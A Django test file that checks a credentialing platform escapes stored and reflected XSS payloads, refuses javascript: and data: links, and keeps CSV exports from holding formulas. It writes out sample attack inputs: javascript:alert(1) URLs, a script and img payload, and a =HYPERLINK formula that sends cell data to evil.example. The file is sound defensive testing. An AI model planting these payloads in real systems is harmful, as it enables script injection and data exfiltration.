"""XSS: every text a user controls (names, catalog text, responses, review feedback and
comments, roster names, the badge's evidence summary) is stored as a payload; every page that
shows it must escape it. Reflected input (search, verify) too. Links keep web schemes only."""

import csv
import io
from datetime import date
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from accounts.services import user_update_profile
from community import services as community_services
from tests.support.cast import Cast
from tests.support.poisoned import (
    ESCAPED,
    JS_URL,
    PAYLOAD,
    assert_escaped,
    complete_with_feedback,
    poison,
)

pytestmark = pytest.mark.django_db


def _get(client: Client, user: Any, path: str, **params: str) -> str:
    client.logout()
    if user is not None:
        client.force_login(user)
    response = client.get(path, params)
    assert response.status_code in (200, 400), (path, response.status_code)  # 400: confirm
    return response.content.decode()


def test_stored_payloads_are_escaped_on_every_page_that_shows_them(cast: Cast) -> None:
    world = poison(cast)
    client = Client()
    sub, review, badge = world.submission, world.review, world.badge
    history = reverse(
        "submissions:response_history",
        args=[sub.public_id, sub.version.requirements.filter(kind="text").first().public_id],
    )
    before_decision = {
        # catalog text, as anyone sees it
        "catalog list": (None, reverse("credentials:catalog")),
        "catalog detail": (None, reverse("credentials:detail", args=[world.credential.slug])),
        "authoring overview": (
            cast.author,
            reverse("credentials:authoring_credential", args=[world.credential.public_id]),
        ),
        "authoring preview": (
            cast.author,
            reverse(
                "credentials:authoring_preview", args=[world.credential.published_version.public_id]
            ),
        ),
        # the reviewer's workspace: responses, prompts, rubric, comment, file name
        "review page": (cast.reviewer, reverse("reviews:review", args=[review.public_id])),
        "review confirm": (cast.reviewer, reverse("reviews:confirm", args=[review.public_id])),
        "review queue": (cast.reviewer, reverse("reviews:queue")),
        # the educator's own pages and names in the header
        "home": (cast.educator, reverse("home")),
        "profile form": (cast.educator, reverse("profile")),
        "response history": (cast.educator, history),
        "artifact fragment": (
            cast.educator,
            reverse("submissions:artifact_status", args=[sub.artifacts.get().public_id]),
        ),
        # badges, public
        "badge page": (None, reverse("badges:detail", args=[badge.public_id])),
        "badge evidence": (None, reverse("badges:evidence", args=[badge.public_id])),
        "my badges": (cast.educator, reverse("badges:mine")),
        "public profile": (None, reverse("badges:public_profile", args=[cast.educator.public_id])),
        # the district admin's pages: names of staff, roster org and people names
        "dashboard": (cast.district_admin, reverse("organizations:dashboard")),
        "transcript": (
            cast.district_admin,
            reverse("organizations:transcript", args=[cast.educator.public_id]),
        ),
        "roster preview": (
            cast.district_admin,
            reverse("organizations:roster_preview", args=[world.roster_import.public_id]),
        ),
        "assignments": (cast.district_admin, reverse("organizations:assignments")),
    }
    type(cast.educator).objects.filter(pk=cast.educator.pk).update(public_profile=True)
    for where, (user, url) in before_decision.items():
        # An assertion per page, in one test: building the world once keeps the suite fast.
        assert_escaped(_get(client, user, url), where)

    complete_with_feedback(world, cast)
    detail = _get(client, cast.educator, reverse("submissions:detail", args=[sub.public_id]))
    assert_escaped(detail, "submission page with the reviewer's feedback")
    assert detail.count(ESCAPED) >= 3  # responses, feedback per criterion, overall feedback
    assert_escaped(_get(client, cast.educator, reverse("submissions:mine")), "my submissions")


def test_team_pages_escape_names_and_shared_answers(cast: Cast) -> None:
    """The invitation list, the team panel and a member's view of the shared answers."""
    from accounts.services import user_update_profile
    from submissions import teams
    from tests.support.teams import invitation, team_credential, write

    for user in (cast.educator, cast.colleague):
        user_update_profile(user=user, display_name=f"{PAYLOAD} {user.email}")
    credential = team_credential(cast.issuer, "xss-team")
    lead = teams.team_start(
        lead=cast.educator, credential=credential, emails=[cast.colleague.email]
    )
    client = Client()
    invitations = _get(client, cast.colleague, reverse("submissions:team_invitations"))
    assert_escaped(invitations, "team invitations")
    assert ESCAPED in invitations  # the lead's name
    mine = teams.membership_accept(membership=invitation(lead, cast.colleague), by=cast.colleague)
    write(lead, "Team plan", PAYLOAD, cast.educator)
    for user, submission in ((cast.educator, lead), (cast.colleague, mine)):
        page = _get(client, user, reverse("submissions:detail", args=[submission.public_id]))
        assert_escaped(page, f"team workspace of {user.email}")
        assert page.count(ESCAPED) >= 2  # a member's name in the panel, the shared answer


def test_a_javascript_resource_link_is_never_a_link(cast: Cast) -> None:
    world = poison(cast)
    html = _get(Client(), None, reverse("credentials:detail", args=[world.credential.slug]))
    assert JS_URL in html  # shown as inert text
    assert f'href="{JS_URL}' not in html and "href='javascript" not in html


def test_the_authoring_form_refuses_a_javascript_resource(cast: Cast) -> None:
    from django.core.exceptions import ValidationError

    from credentials.forms import parse_resources

    for url in (JS_URL, "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,x"):
        with pytest.raises(ValidationError):
            parse_resources(f"Title | {url}")


@pytest.mark.parametrize(
    ("name", "param"),
    [("credentials:catalog", "q"), ("badges:verify", "url"), ("credentials:catalog", "page")],
)
def test_reflected_input_is_escaped(client: Client, db: None, name: str, param: str) -> None:
    html = _get(client, None, reverse(name), **{param: PAYLOAD})
    lowered = html.lower()
    assert "<img src=x" not in lowered and "<script>alert(1)" not in lowered


def test_exports_never_hand_a_spreadsheet_a_formula(cast: Cast) -> None:
    from accounts.services import user_update_profile

    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    user_update_profile(user=cast.educator, display_name=formula)
    client = Client()
    client.force_login(cast.district_admin)
    response = client.get(reverse("organizations:export_progress", args=["csv"]))
    body = b"".join(response.streaming_content).decode()
    assert "HYPERLINK" in body  # the name is exported...
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "@")), cell  # ...as text, never as a formula


def test_cohort_text_is_escaped_wherever_it_is_shown(cast: Cast) -> None:
    """A cohort's name and description, milestones, announcements and people's names are
    typed by users: the cohort page, My cohorts, invitations and the home page escape them."""
    credential = poison(cast).credential
    cohort = community_services.cohort_create(
        by=cast.district_admin,
        organization=cast.district,
        name=PAYLOAD,
        description=PAYLOAD,
        starts_on=date(2027, 1, 10),
        ends_on=date(2027, 5, 30),
        micro_credentials=[credential],
    )
    user_update_profile(user=cast.colleague, display_name=PAYLOAD)
    for person, role in ((cast.colleague, "facilitator"), (cast.educator, "member")):
        invitation = community_services.cohort_invite(
            cohort=cohort, person=person, by=cast.district_admin, role=role
        )
        community_services.cohort_invitation_respond(membership=invitation, by=person, accept=True)
    community_services.cohort_invite(cohort=cohort, person=cast.other_educator, by=cast.colleague)
    community_services.milestone_create(
        cohort=cohort, by=cast.colleague, title=PAYLOAD, due_on=date(2027, 3, 3)
    )
    community_services.announcement_post(
        cohort=cohort, by=cast.colleague, title=PAYLOAD, body=PAYLOAD
    )
    client = Client()
    page = reverse("community:cohort", args=[cohort.public_id])
    pages = {
        "cohort page (member)": (cast.educator, page),
        "cohort page (facilitator: progress)": (cast.colleague, page),
        "cohort page (manager)": (cast.district_admin, page),
        "cohort edit form": (
            cast.district_admin,
            reverse("community:edit", args=[cohort.public_id]),
        ),
        "my cohorts": (cast.educator, reverse("community:mine")),
        "home": (cast.educator, reverse("home")),
        "invitations": (cast.other_educator, reverse("community:invitations")),
        "home with an invitation": (cast.other_educator, reverse("home")),
    }
    for where, (user, url) in pages.items():
        assert_escaped(_get(client, user, url), where)


def test_discussion_markdown_and_names_are_sanitized(cast: Cast) -> None:
    """Posts are Markdown rendered to HTML: raw HTML in them stays text, javascript: and data:
    links go, every link is nofollow ugc; names, titles and report reasons are escaped."""
    from accounts.services import user_update_profile
    from community import discussion
    from tests.support.discussion import make_room

    room = make_room(cast)
    user_update_profile(user=cast.educator, display_name=PAYLOAD)
    body = (
        f"{PAYLOAD}\n\n[click]({JS_URL}) [data](data:text/html,x) "
        f'<a href="{JS_URL}">raw</a> [ok](https://example.org)'
    )
    post = discussion.thread_start(seat=room.seat(cast.educator), body=body, title=PAYLOAD)
    discussion.post_report(seat=room.seat(cast.colleague), post=post, reason=PAYLOAD)
    cohort = room.cohort.public_id
    thread = reverse("community:thread", args=[cohort, post.thread.public_id])
    listing = reverse("community:discussion", args=[cohort])
    client = Client()
    for user, path in [
        (cast.colleague, thread),
        (cast.colleague, listing),
        (room.facilitator, listing),  # the open reports, with the reason
        (room.facilitator, thread),
    ]:
        html = _get(client, user, path)
        assert_escaped(html, (user, path))
        assert "data:text/html" not in html.split('href="', 1)[-1].split('"', 1)[0]
    html = _get(client, cast.colleague, thread)
    assert 'href="https://example.org" rel="nofollow ugc noopener noreferrer"' in html
    assert 'href="data:' not in html and "href='data:" not in html
    api = client.get(f"/api/v1/cohorts/{cohort}/posts/").json()["results"][0]
    assert api["body"] == body  # as typed; body_html is what a page may show
    assert (
        "<img" not in api["body_html"] and "javascript:" not in api["body_html"].split("href")[-1]
    )
